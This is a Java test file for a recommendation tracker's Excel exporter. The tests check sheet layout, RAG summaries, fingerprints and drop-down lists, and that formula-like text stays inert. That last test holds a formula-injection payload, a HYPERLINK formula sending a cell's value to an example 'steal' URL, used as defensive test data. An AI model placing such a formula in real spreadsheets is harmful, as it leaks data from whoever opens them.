package io.github.rectrack.export.xlsx;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.github.rectrack.engine.evaluation.RecommendationState;
import io.github.rectrack.engine.generate.RegisterGenerator;
import io.github.rectrack.engine.reference.ReferenceRegister;
import io.github.rectrack.engine.spi.Exporter;
import io.github.rectrack.engine.spi.Options;
import io.github.rectrack.engine.spi.Report;
import io.github.rectrack.engine.spi.rag.Rag;
import io.github.rectrack.engine.status.Status;
import io.github.rectrack.model.PartialDate;
import io.github.rectrack.model.ProgressUpdate;
import io.github.rectrack.model.Recommendation;
import io.github.rectrack.model.Register;
import io.github.rectrack.model.ReportingRules;
import io.github.rectrack.model.Scheme;
import io.github.rectrack.model.Source;
import io.github.rectrack.model.TargetDate;
import io.github.rectrack.model.TargetRevision;
import io.github.rectrack.testkit.ContractRegisters;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.HashMap;
import java.util.Map;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.ServiceLoader;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipFile;
import org.apache.poi.openxml4j.opc.OPCPackage;
import org.apache.poi.openxml4j.opc.PackageAccess;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DataValidation;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.util.XMLHelper;
import org.apache.poi.xssf.eventusermodel.XSSFReader;
import org.apache.poi.xssf.usermodel.XSSFCellStyle;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.xml.sax.Attributes;
import org.xml.sax.InputSource;
import org.xml.sax.XMLReader;
import org.xml.sax.helpers.DefaultHandler;

class XlsxExporterTest {

    private static final LocalDate PANEL = LocalDate.of(2020, 10, 16);
    private static Report report;
    private static byte[] bytes;

    @BeforeAll
    static void exportTheReferenceRegister() throws IOException {
        report = Report.builder(ReferenceRegister.LEICESTERSHIRE_2020.load()).asOf(PANEL).forum("JARAP").build();
        bytes = export(report);
    }

    private static byte[] export(Report report) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        new XlsxExporter().export(report, Options.none(), out);
        return out.toByteArray();
    }

    private static XSSFWorkbook open(byte[] bytes) throws IOException {
        return new XSSFWorkbook(new ByteArrayInputStream(bytes));
    }

    private static String fill(Cell cell) {
        return ((XSSFCellStyle) cell.getCellStyle()).getFillForegroundColorColor().getARGBHex().substring(2);
    }

    private static List<String> headers(XSSFSheet sheet) {
        List<String> headers = new ArrayList<>();
        sheet.getRow(0).forEach(c -> headers.add(c.getStringCellValue()));
        return headers;
    }

    private static Row row(XSSFSheet sheet, String recommendationId) {
        for (Row row : sheet) {
            if (row.getRowNum() > 0 && recommendationId.equals(row.getCell(0).getStringCellValue())) {
                return row;
            }
        }
        throw new AssertionError("no row for " + recommendationId + " on sheet " + sheet.getSheetName());
    }

    private static Cell cell(XSSFSheet sheet, Row row, String header) {
        return row.getCell(headers(sheet).indexOf(header));
    }

    @Test
    void isDiscoveredUnderItsId() {
        assertThat(ServiceLoader.load(Exporter.class).stream().map(ServiceLoader.Provider::get).map(Exporter::id))
                .contains("xlsx");
        XlsxExporter exporter = new XlsxExporter();
        assertThat(exporter.mediaType()).isEqualTo("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        assertThat(exporter.fileExtensions()).containsExactly("xlsx");
    }

    @Test
    void hasTheSheetsInOrder() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            List<String> names = new ArrayList<>();
            workbook.forEach(s -> names.add(s.getSheetName()));
            assertThat(names).containsExactly("Summary", "Recommendations", "Updates", "Target history", "Decisions", "Actions",
                    "Sources", "People", "Owners", "Links", "Evidence", "Update requests", "Extension requests", "Register");
            assertThat(workbook.isSheetHidden(workbook.getSheetIndex("Register"))).isTrue();
        }
    }

    @Test
    void summaryHoldsTheMatrixWithFilledColourHeaders() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            XSSFSheet summary = workbook.getSheet("Summary");
            assertThat(summary.getRow(1).getCell(1).getStringCellValue()).isEqualTo(report.register().organisation());
            assertThat(summary.getRow(2).getCell(1).getStringCellValue()).contains("JARAP");
            Cell day = summary.getRow(3).getCell(1);
            assertThat(day.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(day)).isTrue();
            assertThat(day.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(PANEL);

            Row header = summary.getRow(SummarySheet.MATRIX_HEADER_ROW);
            assertThat(List.of(1, 2, 3, 4, 5)).extracting(c -> header.getCell(c).getStringCellValue())
                    .containsExactly("Red", "Amber", "Green", "Grey", "Total");
            for (Rag rag : Rag.values()) {
                assertThat(fill(header.getCell(1 + rag.ordinal()))).as("fill of %s", rag).isEqualTo(Styles.RAG_FILLS.get(rag));
            }
            List<List<Object>> matrix = new ArrayList<>();
            for (int r = SummarySheet.MATRIX_HEADER_ROW + 1; r <= SummarySheet.MATRIX_HEADER_ROW + 4; r++) {
                Row row = summary.getRow(r);
                List<Object> values = new ArrayList<>();
                values.add(row.getCell(0).getStringCellValue());
                for (int c = 1; c <= 5; c++) {
                    values.add((int) row.getCell(c).getNumericCellValue());
                }
                matrix.add(values);
            }
            assertThat(matrix).containsExactly(
                    List.of("Fundamental", 0, 2, 0, 0, 2),
                    List.of("Significant", 0, 8, 4, 0, 12),
                    List.of("Housekeeping", 0, 0, 3, 0, 3),
                    List.of("Total", 0, 10, 7, 0, 17));
            Row proposed = summary.getRow(SummarySheet.MATRIX_HEADER_ROW + 6);
            assertThat(proposed.getCell(0).getStringCellValue()).isEqualTo("Proposed for closure");
            assertThat((int) proposed.getCell(1).getNumericCellValue()).isEqualTo(report.views().summary().proposedClosed());
        }
    }

    @Test
    void recommendationsHoldOneRowPerRecommendationWithTheEnginesValues() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            XSSFSheet sheet = workbook.getSheet("Recommendations");
            assertThat(sheet.getLastRowNum()).isEqualTo(27);
            assertThat(report.evaluation().states()).hasSize(27);
            assertThat(headers(sheet)).startsWith("Recommendation id").contains("Source", "Source date", "Assurance",
                    "Reference", "Title", "Priority", "Owners", "Original target", "Current target", "Current deadline",
                    "Revisions", "Days overdue", "Status", "RAG", "Routed to", "Last update date", "Last update");

            Row row = row(sheet, "seized-found-property-2018-4.1");
            assertThat(cell(sheet, row, "Status").getStringCellValue()).isEqualTo("In progress");
            Cell rag = cell(sheet, row, "RAG");
            assertThat(rag.getStringCellValue()).isEqualTo("Amber");
            // no fill of its own: the sheet's conditional formatting fills it by its word
            assertThat(rag.getCellStyle().getFillPattern()).isEqualTo(org.apache.poi.ss.usermodel.FillPatternType.NO_FILL);
            Cell deadline = cell(sheet, row, "Current deadline");
            assertThat(deadline.getCellType()).isEqualTo(CellType.NUMERIC);
            assertThat(DateUtil.isCellDateFormatted(deadline)).isTrue();
            assertThat(deadline.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2021, 4, 30));
            assertThat(cell(sheet, row, "Revisions").getNumericCellValue()).isEqualTo(5);
            assertThat(cell(sheet, row, "Days overdue")).as("not overdue: blank").isNull();
            assertThat(cell(sheet, row, "Last update").getCellStyle().getWrapText()).isTrue();

            // every row agrees with the engine's state
            for (RecommendationState state : report.evaluation().states()) {
                Row r = row(sheet, state.id());
                assertThat(cell(sheet, r, "Status").getStringCellValue()).isEqualTo(state.status().label());
                assertThat(cell(sheet, r, "RAG").getStringCellValue()).isEqualTo(state.rag().label());
                assertThat(cell(sheet, r, "RAG").getStringCellValue()).isEqualTo(state.rag().label());
                assertThat(cell(sheet, r, "Routed to").getStringCellValue()).isEqualTo(state.route().forum());
                Cell overdue = cell(sheet, r, "Days overdue");
                if (state.targets().daysPastCurrent().isPresent()) {
                    assertThat((long) overdue.getNumericCellValue()).isEqualTo(state.targets().daysPastCurrent().getAsLong());
                } else {
                    assertThat(overdue).isNull();
                }
            }
        }
    }

    @Test
    void listSheetsHaveAFrozenHeaderAnAutofilterAndFixedWidths() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            for (String name : List.of("Recommendations", "Updates", "Target history", "Decisions", "Actions")) {
                XSSFSheet sheet = workbook.getSheet(name);
                assertThat(sheet.getPaneInformation()).as("pane of %s", name).isNotNull();
                assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
                assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).as("frozen rows of %s", name).isEqualTo((short) 1);
                assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).as("autofilter of %s", name)
                        .isEqualTo(new CellRangeAddress(0, sheet.getLastRowNum(), 0, headers(sheet).indexOf(TrackerLayout.FINGERPRINT))
                                .formatAsString());
                assertThat(headers(sheet).get(0)).isEqualTo("Recommendation id");
                assertThat(sheet.getColumnWidth(0)).isEqualTo(24 * 256);
                assertThat(workbook.getFontAt(sheet.getRow(0).getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
            }
            assertThat(workbook.getSheet("Recommendations").getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:AK28"); // 36 columns and the hidden fingerprint
        }
    }

    /**
     * Every data row ends with its place and the FarmHash form of its fingerprint. The values must never change
     * between releases: a row whose fingerprint reads differently is taken for one a person edited, so the first
     * recommendation's is pinned here.
     */
    @Test
    void everyDataRowEndsWithItsPlaceAndFarmHashFingerprint() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            for (String name : List.of("Recommendations", "Updates", "Target history", "Decisions", "Actions")) {
                XSSFSheet sheet = workbook.getSheet(name);
                int column = headers(sheet).indexOf(TrackerLayout.FINGERPRINT);
                assertThat(sheet.isColumnHidden(column)).as("fingerprint column of %s hidden", name).isTrue();
                assertThat(sheet.getLastRowNum()).as("data rows of %s", name).isPositive();
                for (int r = 1; r <= sheet.getLastRowNum(); r++) {
                    assertThat(sheet.getRow(r).getCell(column).getStringCellValue()).as("%s row %d", name, r + 1)
                            .matches(r + ":f[0-9a-f]{16}");
                }
            }
            assertThat(workbook.getSheet("Recommendations").getRow(1).getCell(headers(workbook.getSheet("Recommendations"))
                    .indexOf(TrackerLayout.FINGERPRINT)).getStringCellValue()).isEqualTo("1:f8a54aeca89467f73");
        }
    }

    @Test
    void priorityAndStatusHaveDropDownLists() throws IOException {
        try (XSSFWorkbook workbook = open(bytes)) {
            XSSFSheet sheet = workbook.getSheet("Recommendations");
            int priority = headers(sheet).indexOf("Priority");
            int status = headers(sheet).indexOf("Status");
            List<? extends DataValidation> validations = sheet.getDataValidations();
            assertThat(validations).hasSize(2);
            assertThat(validations)
                    .extracting(v -> v.getRegions().getCellRangeAddress(0).getFirstColumn(),
                            v -> v.getRegions().getCellRangeAddress(0).getFirstRow(),
                            v -> Arrays.asList(v.getValidationConstraint().getExplicitListValues()))
                    .containsExactlyInAnyOrder(
                            tuple(priority, 1, report.register().scheme().priorities()),
                            tuple(status, 1, Arrays.stream(Status.values()).map(Status::label).toList()));
            assertThat(validations).allSatisfy(v -> assertThat(v.getShowErrorBox()).isTrue());
        }
    }

    @Test
    void updatesHoldEveryUpdateThatCountsOnTheDay() throws IOException {
        int counted = report.evaluation().states().stream().mapToInt(s -> s.updates().size()).sum();
        int recorded = report.register().recommendations().mapToInt(r -> r.updates().size()).sum();
        assertThat(counted).isEqualTo(116);
        try (XSSFWorkbook workbook = open(bytes)) {
            XSSFSheet updates = workbook.getSheet("Updates");
            assertThat(updates.getLastRowNum()).isEqualTo(counted);
            assertThat(counted).isLessThanOrEqualTo(recorded);
            // keyed back to the Recommendations sheet
            List<String> ids = report.evaluation().states().stream().map(RecommendationState::id).toList();
            for (Row row : updates) {
                if (row.getRowNum() > 0) {
                    assertThat(ids).contains(row.getCell(0).getStringCellValue());
                }
            }
            // a date known to the day is a date cell; one known to the month is its ISO text
            int date = headers(updates).indexOf("Date");
            for (Row row : updates) {
                if (row.getRowNum() == 0) {
                    continue;
                }
                Cell cell = row.getCell(date);
                if (cell.getCellType() == CellType.NUMERIC) {
                    assertThat(DateUtil.isCellDateFormatted(cell)).isTrue();
                } else {
                    assertThat(cell.getStringCellValue()).matches("\\d{4}(-\\d{2})?");
                }
            }
        }
    }

    @Test
    void entriesDatedAfterTheDayAreListedAndMarked() throws IOException {
        LocalDate early = LocalDate.of(2020, 6, 1);
        Report june = Report.builder(ReferenceRegister.LEICESTERSHIRE_2020.load()).asOf(early).forum("JARAP").build();
        int counted = june.evaluation().states().stream().mapToInt(s -> s.updates().size()).sum();
        int recorded = june.register().recommendations().mapToInt(r -> r.updates().size()).sum();
        assertThat(counted).isLessThan(recorded);
        try (XSSFWorkbook workbook = open(export(june))) {
            XSSFSheet updates = workbook.getSheet("Updates");
            assertThat(updates.getLastRowNum()).isEqualTo(recorded);
            int counts = headers(updates).indexOf("Counts on the day");
            List<String> marks = new ArrayList<>();
            updates.forEach(r -> {
                if (r.getRowNum() > 0) {
                    marks.add(r.getCell(counts).getStringCellValue());
                }
            });
            assertThat(marks).filteredOn("Yes"::equals).hasSize(counted);
            assertThat(marks).filteredOn("No"::equals).hasSize(recorded - counted);
            // the Summary stays as of the day
            assertThat((int) workbook.getSheet("Summary").getRow(SummarySheet.MATRIX_HEADER_ROW + 7).getCell(1).getNumericCellValue())
                    .isEqualTo(june.evaluation().states().size());
        }
    }

    @Test
    void targetHistoryMarksSupersededTargets() throws IOException {
        RecommendationState state = report.evaluation().state("seized-found-property-2018-4.1").orElseThrow();
        try (XSSFWorkbook workbook = open(bytes)) {
            XSSFSheet targets = workbook.getSheet("Target history");
            // every recorded entry: the recommendations' own, then their actions'
            int expected = report.register().recommendations().mapToInt(r -> r.targetHistory().size()
                    + r.actions().stream().mapToInt(a -> a.targetHistory().size()).sum()).sum();
            assertThat(targets.getLastRowNum()).isEqualTo(expected);
            int action = headers(targets).indexOf("Action");
            List<Row> rows = new ArrayList<>();
            targets.forEach(r -> {
                if (r.getRowNum() > 0 && r.getCell(0).getStringCellValue().equals(state.id()) && r.getCell(action) == null) {
                    rows.add(r);
                }
            });
            assertThat(rows).hasSize(6); // the original and 5 revisions
            int superseded = headers(targets).indexOf("Superseded");
            int target = headers(targets).indexOf("Target");
            for (int i = 0; i < rows.size(); i++) {
                boolean replaced = i < rows.size() - 1;
                assertThat(rows.get(i).getCell(superseded).getStringCellValue()).isEqualTo(replaced ? "Yes" : "No");
                assertThat(workbook.getFontAt(rows.get(i).getCell(target).getCellStyle().getFontIndex()).getStrikeout())
                        .isEqualTo(replaced);
            }
        }
    }

    @Test
    void decisionsAndActionsAreKeyedByRecommendation() throws IOException {
        int decisions = report.evaluation().states().stream().mapToInt(s -> s.decisions().size()).sum();
        int actions = report.evaluation().states().stream().mapToInt(s -> s.recommendation().actions().size()).sum();
        try (XSSFWorkbook workbook = open(bytes)) {
            assertThat(workbook.getSheet("Decisions").getLastRowNum()).isEqualTo(decisions);
            assertThat(workbook.getSheet("Actions").getLastRowNum()).isEqualTo(actions);
        }
    }

    @Test
    void textThatLooksLikeAFormulaStaysText() throws IOException {
        String hyperlink = "=HYPERLINK(\"http://example.org/steal?\"&A1,\"Click me\")";
        Recommendation rec = Recommendation.builder("r1", "+1", "-2+3 looks like a sum", "Significant")
                .title(hyperlink)
                .targetHistory(List.of(TargetRevision.of(TargetDate.parse("31 March 2021"))))
                .updates(List.of(ProgressUpdate.of(PartialDate.of(2020, 9, 1), "@SUM(A1:A2)")))
                .build();
        Source source = new Source("s1", Source.Kind.INTERNAL_AUDIT, "\tTabbed", Optional.empty(), Optional.of(PartialDate.ofMonth(2020, 3)),
                Optional.of("Limited"), Optional.empty(), Optional.empty(), List.of(rec));
        Register register = new Register("injection", "Test force", ContractRegisters.scheme(), List.of(), List.of(source));
        byte[] written = export(Report.builder(register).asOf(PANEL).forum("JARAP").build());
        try (XSSFWorkbook workbook = open(written)) {
            XSSFSheet sheet = workbook.getSheet("Recommendations");
            Row row = sheet.getRow(1);
            Cell title = cell(sheet, row, "Title");
            assertThat(title.getCellType()).isEqualTo(CellType.STRING);
            assertThat(title.getStringCellValue()).isEqualTo(hyperlink);
            assertThat(title.getCellStyle().getQuotePrefixed()).isTrue();
            assertThat(cell(sheet, row, "Reference").getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell(sheet, row, "Recommendation").getCellType()).isEqualTo(CellType.STRING);
            assertThat(cell(sheet, row, "Source").getStringCellValue()).isEqualTo("\tTabbed");
            Cell update = workbook.getSheet("Updates").getRow(1).getCell(headers(workbook.getSheet("Updates")).indexOf("Update"));
            assertThat(update.getCellType()).isEqualTo(CellType.STRING);
            assertThat(update.getStringCellValue()).isEqualTo("@SUM(A1:A2)");
            assertThat(cell(sheet, row, "Source date").getLocalDateTimeCellValue().toLocalDate()).isEqualTo(LocalDate.of(2020, 3, 1));
            assertThat(cell(sheet, row, "Source date (precision)").getStringCellValue()).isEqualTo("Month");
            assertThat(cell(sheet, row, "Owners")).isNull();
        }
        // no formula anywhere in the package
        assertThat(entry(written, "xl/worksheets/sheet2.xml")).doesNotContain("<f>").contains("t=\"inlineStr\"");
        // POI writes an empty shared strings part; every string is inline
        assertThat(entry(written, "xl/sharedStrings.xml")).doesNotContain("<si>");
    }

    @Test
    void prioritiesExcelCannotListExplicitlyGoToAHiddenListsSheet() throws IOException {
        Scheme base = ContractRegisters.scheme();
        List<String> priorities = List.of("High, urgent", "Medium", "Low");
        Scheme scheme = new Scheme(priorities, base.assuranceLevels(), base.handlingMarkings(), base.forums(), base.ragPolicy(),
                base.ragSettings(), new ReportingRules(List.of(), "JARAP"));
        Register register = new Register("commas", "Test force", scheme, List.of(), List.of());
        byte[] written = export(Report.builder(register).asOf(PANEL).forum("JARAP").build());
        try (XSSFWorkbook workbook = open(written)) {
            List<String> names = new ArrayList<>();
            workbook.forEach(s -> names.add(s.getSheetName()));
            assertThat(names).endsWith("Extension requests", "Register", "Lists");
            assertThat(workbook.isSheetHidden(workbook.getSheetIndex("Lists"))).isTrue();
            XSSFSheet lists = workbook.getSheet("Lists");
            assertThat(List.of(1, 2, 3)).extracting(r -> lists.getRow(r).getCell(0).getStringCellValue())
                    .containsExactlyElementsOf(priorities);
            XSSFSheet sheet = workbook.getSheet("Recommendations");
            assertThat(sheet.getDataValidations()).extracting(v -> v.getValidationConstraint().getFormula1())
                    .contains("Lists!$A$2:$A$4");
        }
    }

    @Test
    void anEmptyRegisterGivesHeadersOnly() throws IOException {
        byte[] written = export(Report.builder(ContractRegisters.empty()).asOf(ContractRegisters.DAY).build());
        try (XSSFWorkbook workbook = open(written)) {
            assertThat(workbook.getNumberOfSheets()).isEqualTo(14);
            for (int i = 1; i < workbook.getNumberOfSheets() - 1; i++) { // the hidden Register sheet is last
                assertThat(workbook.getSheetAt(i).getLastRowNum()).as(workbook.getSheetName(i)).isZero();
            }
        }
    }

    @Test
    void leavesNoTemporaryFilesBehind(@org.junit.jupiter.api.io.TempDir Path poiFiles) throws IOException {
        // POI's temporary sheets go to a directory of this test's own, so other builds on the machine do not count
        org.apache.poi.util.TempFile.setTempFileCreationStrategy(new org.apache.poi.util.DefaultTempFileCreationStrategy(poiFiles.toFile()));
        try {
            export(report);
            assertThat(temporaryFiles(poiFiles)).isEmpty();
        } finally {
            org.apache.poi.util.TempFile.setTempFileCreationStrategy(new org.apache.poi.util.DefaultTempFileCreationStrategy());
        }
    }

    private static List<Path> temporaryFiles(Path dir) throws IOException {
        if (!Files.isDirectory(dir)) {
            return List.of();
        }
        try (var files = Files.list(dir)) {
            return files.filter(f -> f.getFileName().toString().startsWith("poi-sxssf")).sorted().toList();
        }
    }

    @Test
    void givesTheSameBytesTwice() throws IOException {
        assertThat(export(report)).isEqualTo(bytes);
        assertThat(entry(bytes, "docProps/core.xml")).contains("2020-10-16T00:00:00Z");
    }

    /**
     * A size check, not a speed test (speed is measured with JMH): 20,000 recommendations and their
     * 200,000 updates export and the workbook re-opens with every row. It is re-opened the streaming way
     * (POI's {@link XSSFReader} over the file): the Updates sheet's XML is over 100 MB, more than POI's
     * in-memory {@link XSSFWorkbook} reads with its default limits.
     */
    @Test
    void aLargeRegisterReopensWithEveryRow(@TempDir Path dir) throws Exception {
        Register large = RegisterGenerator.generate(20_000, 1);
        // as of the generator's horizon, every source has been issued: all 20,000 are in the evaluation
        Report big = Report.builder(large).asOf(RegisterGenerator.DEFAULT_HORIZON).build();
        assertThat(big.evaluation().states().size()).isEqualTo(20_000);
        int updates = big.evaluation().states().stream().mapToInt(s -> s.updates().size()).sum();
        Path file = dir.resolve("large.xlsx");
        try (OutputStream out = Files.newOutputStream(file)) {
            new XlsxExporter().export(big, Options.none(), out);
        }
        try (OPCPackage pkg = OPCPackage.open(file.toFile(), PackageAccess.READ)) {
            XSSFReader reader = new XSSFReader(pkg);
            Map<String, Integer> rows = new HashMap<>();
            XSSFReader.SheetIterator sheets = (XSSFReader.SheetIterator) reader.getSheetsData();
            while (sheets.hasNext()) {
                try (InputStream sheet = sheets.next()) {
                    rows.put(sheets.getSheetName(), countRows(sheet));
                }
            }
            assertThat(rows.get("Recommendations")).isEqualTo(1 + 20_000);
            assertThat(rows.get("Updates")).isEqualTo(1 + updates);
        }
    }

    private static int countRows(InputStream sheetXml) throws Exception {
        int[] rows = {0};
        XMLReader xml = XMLHelper.newXMLReader();
        xml.setContentHandler(new DefaultHandler() {
            @Override
            public void startElement(String uri, String localName, String qName, Attributes attributes) {
                if ("row".equals(localName)) {
                    rows[0]++;
                }
            }
        });
        xml.parse(new InputSource(sheetXml));
        return rows[0];
    }

    /** Reads an entry through the central directory: POI's Zip64 writer puts sizes in data descriptors. */
    private static String entry(byte[] zipBytes, String name) throws IOException {
        try (ZipFile zip = ZipFile.builder().setByteArray(zipBytes).get()) {
            ZipArchiveEntry entry = zip.getEntry(name);
            assertThat(entry).as("entry %s", name).isNotNull();
            return new String(zip.getInputStream(entry).readAllBytes(), StandardCharsets.UTF_8);
        }
    }
}
